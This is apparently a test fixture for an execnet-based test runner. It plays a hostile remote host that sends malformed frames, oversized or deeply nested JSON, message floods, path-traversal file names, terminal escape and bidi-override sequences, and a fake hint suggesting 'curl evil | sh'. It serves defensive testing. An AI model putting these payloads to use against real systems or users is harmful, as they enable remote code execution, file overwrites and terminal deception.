"""A hostile host: speaks execnet's frames and our messages by hand, and plays one trick.

Run in place of a host's Python: ``hostile_host.py TRICK -u -c BOOTSTRAP``.  Uses the standard
library alone, since it must send what our code never would.
"""

import json
import os
import struct
import sys
import time

TERMINATE, EXEC, DATA, CLOSE_ERROR = 2, 3, 4, 6
TRICK = sys.argv[1].replace("-", " ")
ESCAPE = "\x1b[2J\x1b]0;owned\x07\u202e"
#: Words that must not look like a hint of ours.
HINT = "nosejobs-cannot: " + ESCAPE + "\nnosejobs-try: curl evil | sh\n  try: curl evil | sh\n"


def read(count):
    data = b""
    while len(data) < count:
        piece = os.read(0, count - len(data))
        if not piece:
            sys.exit(0)
        data += piece
    return data


def write(data):
    while data:
        data = data[os.write(1, data) :]


def send_frame(code, channel, payload):
    write(struct.pack("!bii", code, channel, len(payload)) + payload)


def send_bytes(body):
    send_frame(DATA, 1, b"A" + struct.pack("!i", len(body)) + body + b"Q")


def send_messages(*messages):
    send_bytes(b"J" + json.dumps(messages).encode("ascii"))


def make_done(number, **changes):
    """Return the message of a passed execution, with changed fields."""
    row = {
        "id": number, "attempt": 1, "slot": 1, "started_at": time.time(), "duration": 0.01,
        "exit_status": 0, "signal": None, "timed_out": False, "problem": "", "detail": "",
        "stdout": ["", 0, -1], "stderr": ["", 0, -1], "leftovers": [], "max_rss": 1,
        "cpu_seconds": 0.0, "parsed": None, "artifacts": [], "artifacts_omitted": 0,
    }  # fmt: skip
    row.update(changes)
    return ["done", list(row.values())]


def receive_messages():
    """Yield the messages of the controller, without end."""
    while True:
        code, _, length = struct.unpack("!bii", read(9))
        payload = read(length)
        if code == TERMINATE:
            sys.exit(0)
        if code == EXEC:
            send_bytes(b"")
        elif code == DATA:
            body = payload[5:-1]
            if body[:1] == b"J":
                yield from json.loads(body[1:].decode())
            elif body[:1] != b"B":
                send_bytes(b"have")  # the digest of our code


def make_facts():
    facts = {"name": "liar", "system": "Linux", "machine": "x", "python": "3.9", "cores": 1}
    facts.update({"slots": 1, "root": "/nowhere"})
    if TRICK == "escapes":
        facts.update({"name": ESCAPE, "system": ESCAPE, "python": ESCAPE})
    if TRICK == "many slots":
        facts["slots"] = 10**9
    if TRICK == "no number of slots":
        facts["slots"] = "many"
    return facts


def play_trick(number):
    """Play the trick when the first test arrives."""
    if TRICK == "reconfigure":
        send_frame(1, 0, b"@\0\0\0\2RRQ")
    elif TRICK == "exec":
        send_frame(EXEC, 1, b"N\0\0\0\1xQ")
    elif TRICK == "huge list":
        send_frame(DATA, 1, b"K\x7f\xff\xff\xffQ")
    elif TRICK == "huge frame":
        write(struct.pack("!bii", DATA, 1, 2**31 - 1) + bytes(1 << 16))
    elif TRICK == "error":
        text = ("RuntimeError: " + ESCAPE + "boom").encode()
        send_frame(CLOSE_ERROR, 1, b"N" + struct.pack("!i", len(text)) + text + b"Q")
    elif TRICK == "no json":
        send_bytes(b"J" + b"{" * 100)
    elif TRICK == "deep json":
        send_bytes(b"J" + b"[" * 5_000_000)
    elif TRICK == "wide json":
        send_bytes(b"J[" + b"[]," * 5_000_000 + b"[]]")
    elif TRICK == "no frame":
        send_bytes(b"\xff\xfe")
    elif TRICK == "never given":
        send_messages(make_done(number + 1000), make_done(-1), make_done(number))
    elif TRICK == "twice":
        send_messages(
            make_done(number), make_done(number, exit_status=1), make_done(number, exit_status=1)
        )
    elif TRICK == "of no attempt":
        send_messages(make_done(number, attempt=7, exit_status=1), make_done(number))
    elif TRICK == "odd types":
        send_messages(make_done(number, duration="long"))
    elif TRICK == "not a number":
        send_messages(make_done(number, duration=float("nan")))
    elif TRICK == "path":
        send_blob(["artifact", number, 1, "../../../escaped", 0], b"x")
    elif TRICK == "absolute path":
        send_blob(["artifact", number, 1, "/tmp/nosejobs-escaped", 0], b"x")
    elif TRICK == "deep path":
        send_blob(["artifact", number, 1, "/".join(["d"] * 2000), 0], b"x")
    elif TRICK == "long path":
        send_blob(["artifact", number, 1, "d" * 1_000_000, 0], b"x")
    elif TRICK == "escapes":
        send_messages(
            ["line", number, ESCAPE], make_done(number, problem="not-started", detail=ESCAPE)
        )
    elif TRICK == "escapes in a result":
        case = ["case " + ESCAPE, "failed", ESCAPE, ESCAPE, None, ESCAPE, [[ESCAPE, ESCAPE]]]
        send_messages(
            ["line", number, ESCAPE],
            make_done(
                number,
                exit_status=1,
                stdout=[ESCAPE, 50, -1],
                stderr=[ESCAPE, 50, -1],
                leftovers=[ESCAPE, "sleep"],
                parsed=[ESCAPE, [case], ESCAPE, None] if number % 2 else None,
                artifacts=[[ESCAPE, 1]],
            ),
        )
    elif TRICK == "flood":
        while True:
            send_messages(*[["running", number, 1]] * 1000)
    elif TRICK == "unknown":
        send_messages(["selfdestruct", number])
    elif TRICK == "half a frame":
        write(struct.pack("!bii", DATA, 1, 1000))
        os.close(1)


def send_blob(header, body):
    head = json.dumps(header).encode("ascii")
    send_bytes(b"B" + struct.pack(">I", len(head)) + head + body)


def main():
    if TRICK == "prints":
        write(b"Welcome to " + ESCAPE.encode() + b"\n")
    sys.stdin.buffer.raw.read(0)
    while read(1) != b"\n":  # execnet's source
        pass
    if TRICK == "stderr":
        os.write(2, HINT.encode())
        sys.exit(1)
    write(b"1")
    if TRICK == "complaint":
        read(9)
        send_bytes(HINT.encode())
    for message in receive_messages():
        if message[0] == "tree":
            send_messages(["missing", [], []])
        elif message[0] == "unpack":
            send_messages(["unpacked", "/nowhere"])
        elif message[0] == "open":
            send_messages(["ready", make_facts()])
        elif message[0] == "ping":
            send_messages(["pong", *message[1:]])
        elif message[0] == "run":
            for row in message[1]:
                play_trick(row[0])
        elif message[0] == "stop":
            send_messages(["bye"])
            sys.exit(0)


main()
